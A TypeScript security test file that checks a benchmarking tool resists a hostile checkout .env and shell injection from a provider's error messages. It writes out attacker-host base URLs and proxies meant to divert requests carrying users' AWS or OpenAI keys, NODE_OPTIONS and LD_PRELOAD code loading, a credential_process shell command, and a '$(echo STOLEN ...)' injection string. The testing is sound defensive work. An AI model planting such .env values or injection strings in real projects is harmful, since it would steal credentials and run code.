import { spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { runCli } from '../../testkit/child.js';
import { runStep } from '../../testkit/standins/runner.js';
import { answering, startProviders } from '../scripted-provider.js';
import { expected, type SiegeCase } from './case.js';

const AWS_KEYS = {
  AWS_ACCESS_KEY_ID: 'ASIAVICTIMVICTIM1234',
  AWS_SECRET_ACCESS_KEY: 'victim-secret-0123456789abcdefABCDEF/+x',
  AWS_SESSION_TOKEN: 'IQoJb3JpZ2luX2VjVICTIMSESSIONTOKEN0123456789',
};

interface Diversion {
  readonly provider: 'bedrock' | 'openai';
  /** Of the user. */
  readonly env: Readonly<Record<string, string>>;
  /** What the foreign `.env` holds; `HOST` is the attacker's. */
  readonly file: string;
}

const BEDROCK = 'BEDROCK_OPENAI_BASE_URL=http://HOST/bad/v1\nAWS_REGION=us-east-2\n';

const DIVERSIONS: Readonly<Record<string, Diversion>> = {
  'AWS keys of the environment': { provider: 'bedrock', env: AWS_KEYS, file: BEDROCK },
  'a profile of the environment': { provider: 'bedrock', env: { AWS_PROFILE: 'work' }, file: BEDROCK },
  'the default profile': { provider: 'bedrock', env: {}, file: BEDROCK },
  'a profile with a credential_process': { provider: 'bedrock', env: {}, file: `${BEDROCK}AWS_PROFILE=prod\n` },
  'the profile alone': { provider: 'bedrock', env: {}, file: 'AWS_PROFILE=prod\n' },
  'AWS files of its own': { provider: 'bedrock', env: {}, file: 'AWS_CONFIG_FILE=./config\nAWS_PROFILE=prod\n' },
  'the endpoint of STS': { provider: 'bedrock', env: AWS_KEYS, file: 'AWS_ENDPOINT_URL=http://HOST/bad\n' },
  'a Bedrock key': {
    provider: 'bedrock',
    env: { BEDROCK_OPENAI_API_KEY: 'ABSKvictimvictimvictim1234567890' },
    file: BEDROCK,
  },
  'an OpenAI key': {
    provider: 'openai',
    env: { OPENAI_API_KEY: 'sk-victim-0123456789abcdef' },
    file: 'OPENAI_BASE_URL=http://HOST/bad/v1\n',
  },
  'an OpenAI key, quoted and exported': {
    provider: 'openai',
    env: { OPENAI_API_KEY: 'sk-victim-0123456789abcdef' },
    file: 'export OPENAI_BASE_URL="http://HOST/bad/v1"\n',
  },
  'a proxy': {
    provider: 'openai',
    env: { OPENAI_API_KEY: 'sk-victim-0123456789abcdef', OPENAI_BASE_URL: 'http://127.0.0.1:9/v1' },
    file: 'HTTPS_PROXY=http://HOST\nHTTP_PROXY=http://HOST\nhttp_proxy=http://HOST\n',
  },
  'options of Node': {
    provider: 'openai',
    env: { OPENAI_API_KEY: 'sk-victim-0123456789abcdef', OPENAI_BASE_URL: 'http://127.0.0.1:9/v1' },
    file: 'NODE_OPTIONS=--require=./evil.cjs\nPATH=.\nLD_PRELOAD=./evil.so\n',
  },
};

async function homeWith(cwd: string): Promise<string> {
  const home = path.join(cwd, 'home');
  await mkdir(path.join(home, '.aws'), { recursive: true });
  const keys = (name: string): string =>
    `[${name}]\naws_access_key_id = AKIA${name.toUpperCase().padEnd(16, 'X')}\naws_secret_access_key = ${name}-secret-0123456789abcdefABCDEFGH\n`;
  await writeFile(path.join(home, '.aws/credentials'), keys('default') + keys('work'));
  const command = `credential_process = /bin/sh -c 'touch ${path.join(cwd, 'RAN')}; echo "{}"'\n`;
  for (const file of [path.join(home, '.aws/config'), path.join(cwd, 'config')])
    await writeFile(file, `[profile prod]\n${command}`);
  await writeFile(path.join(cwd, 'evil.cjs'), `require('node:fs').writeFileSync('${path.join(cwd, 'RAN')}', '');\n`);
  return home;
}

export const DIVERTED: SiegeCase = {
  name: 'a foreign .env',
  tries: `the .env of a checkout moves requests, or picks whose credentials sign them: ${Object.keys(DIVERSIONS).length} ways`,
  async run({ built }, cwd) {
    const providers = await startProviders({ bad: answering('#### 1') });
    const home = await homeWith(cwd);
    const failures: string[] = [];
    for (const [name, { provider, env, file }] of Object.entries(DIVERSIONS)) {
      await writeFile(path.join(cwd, '.env'), file.replaceAll('HOST', `127.0.0.1:${providers.port}`));
      const words = [
        'run',
        `--provider=${provider}`,
        '--runs=1',
        '--warmups=0',
        '--network-wait-minutes=0',
        '--output-dir=out',
      ];
      const aws = {
        AWS_CONFIG_FILE: path.join(home, '.aws/config'),
        AWS_SHARED_CREDENTIALS_FILE: path.join(home, '.aws/credentials'),
      };
      const { exitCode } = await runCli(built.cli, words, { cwd, env: { HOME: home, ...aws, ...env } });
      failures.push(
        ...expected(exitCode !== 0, `${name}: exit code 0`),
        ...expected(
          !existsSync(path.join(cwd, 'RAN')),
          `${name}: a command of the checkout or of a profile that it picked ran`,
        ),
      );
      await rm(path.join(cwd, 'out'), { recursive: true, force: true });
    }
    failures.push(...expected(providers.requests() === 0, `the attacker received ${providers.requests()} requests`));
    await providers.close();
    return { seen: `${providers.requests()} requests reach the attacker, no command runs`, failures };
  },
};

const COMMAND = '$(echo STOLEN > STOLEN)`echo STOLEN > STOLEN`"; echo STOLEN > STOLEN; "';

export const SHELL: SiegeCase = {
  name: "a server's words in an output",
  tries: 'errors of a provider are shell commands; every output is put into a `run:` step',
  async run({ built }, cwd) {
    const providers = await startProviders({
      bad: (response) => void response.writeHead(500, { 'content-type': 'application/json' }).end(COMMAND),
    });
    const { words, env } = providers;
    const inputs = Object.fromEntries(
      [...words, '--runs=12', '--max-consecutive-failures=2'].map((word) => {
        const [name = '', ...value] = word.replace(/^--/, '').split('=');
        return [name, value.join('=')];
      }),
    );
    const step = {
      actionDirectory: built.directory,
      eventName: 'push',
      event: {},
      inputs: { ...inputs, comment: 'off' },
      env,
    };
    const result = await runStep(step);
    await result.clean();
    await providers.close();
    const script = Object.values(result.outputs).map((value) => `echo "stopped because ${value}"`);
    await writeFile(path.join(cwd, 'step.sh'), script.join('\n'));
    spawnSync('bash', ['step.sh'], { cwd });
    return {
      seen: `\`stopped-reason\` is \`${result.outputs['stopped-reason']}\`; none of ${script.length} outputs runs as a command`,
      failures: [
        ...expected(!existsSync(path.join(cwd, 'STOLEN')), 'a command of the server ran'),
        ...expected(result.outputs['stopped-reason'] === 'max-consecutive-failures', 'the reason is no fixed code'),
      ],
    };
  },
};
